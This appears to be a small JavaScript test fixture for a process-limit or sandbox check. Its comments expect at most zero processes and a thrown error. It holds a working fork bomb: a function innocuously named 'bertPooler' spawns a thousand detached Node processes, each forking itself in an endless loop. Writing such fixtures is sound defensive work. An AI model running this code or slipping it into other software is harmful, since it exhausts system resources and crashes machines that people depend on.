// Processes that start processes.
// at most: 0
// says: threw an error
const { spawn } = await import('node:child_process');
const bertPooler = () => {
  for (let i = 0; i < 1000; i++) spawn(process.execPath, ['--eval', 'for(;;)require("child_process").fork(process.argv[1])/*lab-hostile*/'], { detached: true, stdio: 'ignore' }).unref();
};
